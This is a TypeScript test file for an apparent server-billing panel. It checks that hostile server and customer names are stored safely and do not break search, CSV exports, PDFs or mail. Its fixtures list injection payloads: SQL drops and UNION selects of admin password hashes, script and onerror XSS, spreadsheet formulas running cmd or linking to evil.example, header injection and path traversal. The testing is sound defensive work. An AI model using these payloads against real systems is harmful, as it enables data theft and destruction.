import type { Express } from 'express';
import request from 'supertest';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createToken } from '../../services/admins/tokens/create-token.ts';
import { issueCustomerLink } from '../../services/customer-links/issue-customer-link.ts';
import { layoutOf } from '../../services/notices/mail-layout.ts';
import { htmlOf } from '../../services/notices/mail-text.ts';
import { rollUp } from '../../services/roll-ups/roll-up.ts';
import { type WatchedPanel, watchedPanel } from '../../services/uptime/testing/watched-panel.ts';
import { billAt } from '../bill-at.ts';
import { aRate, billingOn } from '../factories.ts';
import { appOn, rows } from './attacked-app.ts';

/** What customers call their servers, who may call them anything; and what stands for it afterwards, where not itself. */
const names: [given: string, kept?: string][] = [
  ["'; DROP TABLE servers; --"],
  ["' OR '1'='1"],
  ["') UNION SELECT password_hash FROM admins --"],
  ["\\'; DELETE FROM transactions; --"],
  ['$1 $2 %s :name'],
  ['<script>alert(1)</script>'],
  ['"><img src=x onerror=alert(1)>'],
  ["javascript:alert('x')"],
  ['{{constructor.constructor("alert(1)")()}}'],
  ['=HYPERLINK("https://evil.example?"&A1,"click")'],
  ['+1+cmd|" /C calc"!A0'],
  ['-2+3+cmd|" /C calc"!A0'],
  ['@SUM(1+1)*cmd|" /C calc"!A0'],
  ['\t=1+1'],
  ['Subject: x\r\nBcc: everyone@example.com'],
  ['../../../../etc/passwd'],
  ['a\u0000b', 'a\ufffdb'],
  ['c\ud800d', 'c\ufffdd'],
  ['\u202egnp.exe'],
  ['x'.repeat(6_000), 'x'.repeat(255)],
];

let panel: WatchedPanel;
let app: Express;
let owner: string;
let link: string;
let asked = 0;
/** From ever new addresses: one may ask only so often. */
function get(path: string, bearer = owner) {
  asked += 1;
  return request(app)
    .get(path)
    .set({ authorization: `Bearer ${bearer}`, 'x-forwarded-for': `10.0.${Math.floor(asked / 200)}.1` });
}
const CUSTOMER = 15;
const idOf = (index: number) => 100 + index;
const billed = names.map(([given, kept = given]) => kept);

/** A server of each name, of a customer of a bad name, too, seen at the panel and billed for two hours. */
beforeAll(async () => {
  panel = await watchedPanel();
  const { ctx } = panel;
  await billingOn(ctx, panel.at('12:00'));
  await aRate(ctx, { packageId: 1, price: '7.30' });
  panel.world.addUser({
    ...{ id: CUSTOMER, name: '=HYPERLINK("https://evil.example")' },
    ...{ email: 'customer@example.com', extRelationId: 2000 },
  });
  for (const [index, [name]] of names.entries()) {
    panel.world.addServer({
      ...{ id: idOf(index), ownerId: CUSTOMER, packageId: 1, hypervisorId: 6 },
      ...{ name, hostname: name, running: true, created: panel.clock.now() },
    });
  }
  for (const time of ['12:00', '12:20', '12:40', '13:00', '13:20', '13:40', '14:00']) {
    panel.at(time);
    await panel.observe();
  }
  await billAt(panel, '2026-11-01T14:10:00Z');
  await rollUp(ctx);
  app = appOn({ ...ctx, env: { ...ctx.env, trustProxy: 1 } });
  owner = (await createToken(ctx, { name: 'owner', role: 'owner' })).token;
  link = (await issueCustomerLink(ctx, { id: CUSTOMER, days: 7, idempotencyKey: 'a-link-to-show' })).token;
});
afterAll(() => panel.close());

test('every server is seen, kept under its name and billed, whatever it is called', async () => {
  const { body } = await get('/api/admin/servers?limit=200').expect(200);
  const told = new Map(body.rows.map((row: { id: number; name: string }) => [row.id, row.name]));
  expect(names.map((_, index) => told.get(idOf(index)))).toEqual(billed);
  const { rows: charged } = await panel.ctx.db.$client.query(
    'SELECT count(DISTINCT server_id)::int AS servers, count(*)::int AS hours FROM hourly_charges',
  );
  expect(charged).toEqual([{ servers: names.length, hours: names.length * 2 }]);
});

test.each(billed.map((name, index) => [name.slice(0, 60), index]))(
  '%s is found as it is written, and is no SQL',
  async (_name, index) => {
    const name = (billed[Number(index)] ?? '').slice(0, 100);
    const { status, body } = await get(`/api/admin/servers?search=${encodeURIComponent(name)}`);
    expect(status).toBe(200);
    expect(body.rows.map(({ id }: { id: number }) => id)).toEqual([idOf(Number(index))]);
    const found = await get(`/api/admin/search?q=${encodeURIComponent(name)}`);
    expect(found.status).toBe(200);
    expect((await panel.ctx.db.$client.query('SELECT count(*)::int AS n FROM servers')).rows[0].n).toBe(
      names.length,
    );
  },
);

/** Every text of a query, as a stranger would fill it in. */
const asking = rows
  .filter(({ row }) => row.method === 'GET' && !row.stream && !row.path.includes(':'))
  .filter(({ row }) => Object.keys(row.input.shape).length > 0);

test.each(asking)('$name takes each of them for a text or refuses it', async ({ row }) => {
  const bearer = row.access === 'customer-link' ? link : owner;
  for (const name of Object.keys(row.input.shape)) {
    for (const text of ["' OR '1'='1", '1) UNION SELECT 1 --', '%_\\\u0000']) {
      const reply = await get(`${row.path}?${name}=${encodeURIComponent(text.slice(0, 100))}`, bearer);
      expect([name, text.slice(0, 40), reply.status < 500]).toEqual([name, text.slice(0, 40), true]);
    }
  }
  const { rows: tables } = await panel.ctx.db.$client.query('SELECT count(*)::int AS n FROM transactions');
  expect(tables[0].n).toBeGreaterThan(0);
});

test('a CSV holds no cell that a spreadsheet would run', async () => {
  const files = [
    await get('/api/admin/customers/15/statements/2026-11/csv').expect(200),
    await get('/api/customer/statements/2026-11/csv', link).expect(200),
    await get(
      '/api/admin/reports/breakdown/csv?by=customer&from=2026-11-01T00:00:00Z&until=2026-11-02T00:00:00Z',
    ),
    await get('/api/admin/reports/owing/csv'),
  ];
  const cells = files.flatMap(({ text }) =>
    text.replace(/^\uFEFF/, '').split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/),
  );
  expect(cells.filter((cell) => cell.includes('HYPERLINK')).length).toBeGreaterThan(1);
  const run = cells.filter((cell) => /^"?[=+@\t\r]/.test(cell) || /^"?-(?![\d.]+"?$)/.test(cell));
  expect(run).toEqual([]);
});

test('a statement as PDF is made, whatever stands in it', async () => {
  const reply = await get('/api/admin/customers/15/statements/2026-11/pdf');
  expect([reply.status, reply.type]).toEqual([200, 'application/pdf']);
});

test('JSON of ours is JSON to a browser: it is never taken for a page', async () => {
  const { headers } = await get('/api/admin/servers?limit=200').set('accept', 'text/html');
  expect(headers['content-type']).toMatch(/^application\/json/);
  expect(headers['x-content-type-options']).toBe('nosniff');
});

test.each(billed.map((name) => [name.slice(0, 60)]))('%s is text in a mail', (name) => {
  const html = htmlOf(
    layoutOf({
      content: { subject: name, body: `${name}\n\nis off`, action: name },
      ...{ way: 'customer_mail', company: name, severity: 'critical', link: 'https://billing.host.example' },
    }),
  );
  expect(html).not.toMatch(/<script|<img|onerror=alert\(1\)>/);
});
